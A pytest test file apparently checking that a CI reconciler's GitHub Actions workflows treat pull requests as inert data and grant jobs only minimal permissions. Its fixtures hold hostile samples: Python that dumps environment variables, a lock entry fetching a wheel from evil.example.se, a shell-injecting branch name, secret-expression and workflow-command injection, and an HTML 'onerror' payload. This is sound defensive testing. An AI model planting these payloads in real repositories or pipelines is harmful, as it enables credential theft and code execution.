"""Pull requests are data: whatever stands in them, nothing of theirs is run, believed or shown where a credential is near."""

from collections.abc import Iterator

import pytest

from tests.forge.state import BOT
from tests.workflows.stage import KEY, SCHOOL, Stage, staged

SPY = "import pathlib, os\npathlib.Path(os.environ['RUNNER_TEMP'], 'spied').write_text(str(dict(os.environ)))\n"
"""What somebody puts where Python, make or Git might run it."""


@pytest.fixture(scope="module")
def founded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """Nothing has to be applied here."""
    with staged(tmp_path_factory.mktemp("town")) as stage:
        yield stage


@pytest.fixture
def town(founded: Stage) -> Stage:
    return founded


def test_a_pull_request_from_a_fork_is_validated_without_rights_and_planned_by_nobody(town: Stage) -> None:
    town.forge.person("utomstaende", level="read", member=False)
    town.forge.fork("utomstaende")
    bad = {SCHOOL: town.read(SCHOOL).replace("incognito", "inkognito")}
    town.forge.commit_to_fork("utomstaende", "hjalp", bad)
    pull = town.forge.open_pull("utomstaende", "hjalp", fork=True)

    checked = town.run("validate", "pull_request", actor="utomstaende", pull=pull)
    planned = town.run("plan", "pull_request_target", actor="utomstaende", pull=pull)

    assert checked.conclusions == {"split": "success", "validate": "failure"}
    assert f"::error title=UNKNOWN-KEY,file={SCHOOL},line=15," in checked.said
    assert planned.conclusions == {"split": "skipped", "review": "skipped", "plan": "skipped"}
    assert town.forge.said(pull) == []
    assert KEY not in checked.said


def test_even_where_the_guard_is_gone_the_files_of_a_fork_are_not_checked_out(town: Stage) -> None:
    town.forge.person("okand", level="read", member=False)
    town.forge.fork("okand")
    town.forge.commit_to_fork("okand", "hjalp", {"README.md": "hej\n"})
    pull = town.forge.open_pull("okand", "hjalp", fork=True)

    planned = town.run("plan", "pull_request_target", actor="okand", pull=pull, change=_unguarded)

    assert planned.conclusions == {"split": "failure", "review": "skipped", "plan": "skipped"}
    assert "Refusing to check out fork pull request code" in planned.said


def _unguarded(text: str) -> str:
    guard = "github.event.pull_request.head.repo.full_name == github.repository"
    assert text.count(guard) == 3, "every job has its own"
    return text.replace(f"    if: {guard}\n", "").replace(f" && {guard}", "")


def test_a_pull_request_that_edits_tool_workflow_and_lock_is_planned_by_mains(town: Stage) -> None:
    """It may propose all of that; it takes effect once it is reviewed and merged."""
    pull = town.propose(
        "bo",
        "ny-motor",
        {
            **town.switched(),
            "reconciler/cli/plan.py": SPY,
            "reconciler/__init__.py": SPY,
            "Makefile": "runtime:\n\ttouch $(RUNNER_TEMP)/spied\n",
            "requirements.lock": "evil @ https://evil.example.se/evil.whl\n",
            "sitecustomize.py": SPY,
            "click.py": SPY,
            "sealed": "",
            ".gitattributes": "* filter=spy diff=spy\n",
            ".github/workflows/plan.yml": "on: pull_request_target\njobs: {}\n",
        },
    )

    planned = town.run("plan", "pull_request_target", pull=pull)

    assert planned.conclusions == {"split": "success", "review": "success", "plan": "success"}, planned.said
    assert not list(town.machine.folder.rglob("spied"))
    plan = next(text for text in town.comments(pull) if "reconciler:record:1" in text)
    assert "1 ändring hör till den här pull requesten" in plan
    assert all(
        (job.workspace or town.machine.folder).joinpath("main/reconciler/cli/plan.py").exists()
        for job in planned.jobs.values()
    )


HOSTILE = {
    "a branch with quotes": ("x\"; touch $RUNNER_TEMP/spied; '", "Elever åk 4–6"),
    "an expression": ("uttryck", "Elever ${{ secrets.RECONCILER_SIGNING_KEY }}"),
    "a workflow command": ("kommando", "::set-output name=day::2020-01-01"),
    "a mention and HTML": ("omnamnande", "@granby-kommun/it <img src=x onerror=alert(1)>"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_names_that_people_choose_are_only_ever_text(town: Stage, case: str) -> None:
    branch, name = HOSTILE[case]
    files = {SCHOOL: town.read(SCHOOL).replace("name: Elever åk 4–6", f'name: "{name}"'), **_new_value(town, name)}
    pull = town.propose("bo", branch.replace(" ", "-").replace("~", ""), files, title=f"$({name})")

    planned = town.run("plan", "pull_request_target", pull=pull)

    assert planned.jobs["plan"].steps[2].code == 0
    assert not list(town.machine.folder.rglob("spied"))
    lines = [line.lstrip() for line in planned.said.splitlines()]
    assert not [line for line in lines if line.startswith(("::set-output", "::add-mask", "::stop"))]
    assert KEY not in planned.said
    for text in (*town.comments(pull), *(job.summary for job in planned.jobs.values())):
        assert KEY not in text
        assert "<img" not in text
        assert "@granby-kommun/it" not in text


def _new_value(town: Stage, name: str) -> dict[str, str | None]:
    text = town.read(SCHOOL).replace("name: Elever åk 4–6", f'name: "{name}"')
    return {SCHOOL: text.replace("power-wash: blocked", "power-wash: allowed")}


def test_a_job_has_the_rights_that_its_file_says_and_asks_for_no_more(town: Stage) -> None:
    """Exactly: whatever a job is refused shows as 403, and what it doesn't need it hasn't got."""
    pull = town.propose("bo", "ratt", town.switched())
    town.forge.world.log.clear()

    planned = town.run("plan", "pull_request_target", pull=pull)

    assert planned.conclusions == {"split": "success", "review": "success", "plan": "success"}
    asked = [each for each in town.forge.world.log if each.actor == BOT]
    assert {each.status for each in asked} <= {200, 201, 304}
    assert {each.verb for each in asked} == {"GET", "POST"}


TOO_FEW = [
    ("plan", "plan", "pull-requests: write", "pull-requests: read", "ci record"),
    ("plan", "review", "pull-requests: write", "pull-requests: read", "ci comment"),
    ("apply", "apply (chrome)", "contents: write", "contents: read", "ci apply"),
    ("apply", "apply (chrome)", "pull-requests: read", "pull-requests: none", "ci apply"),
]


@pytest.mark.parametrize(("name", "job", "has", "less", "command"), TOO_FEW)
def test_with_less_than_its_rights_a_job_stops_and_says_why(
    town: Stage, name: str, job: str, has: str, less: str, command: str
) -> None:
    def change(text: str) -> str:
        assert has in text
        return text.replace(has, less)

    pull = town.propose("bo", f"mindre-{name}-{job.split()[0]}-{has.split(':')[0]}", town.switched())
    before = town.writes()
    event = "pull_request_target" if name == "plan" else "push"

    result = town.run(name, event, pull=pull if name == "plan" else None, change=change)

    assert result.jobs[job].conclusion == "failure", command
    assert "FORGE-" in result.jobs[job].said
    assert town.writes() == before
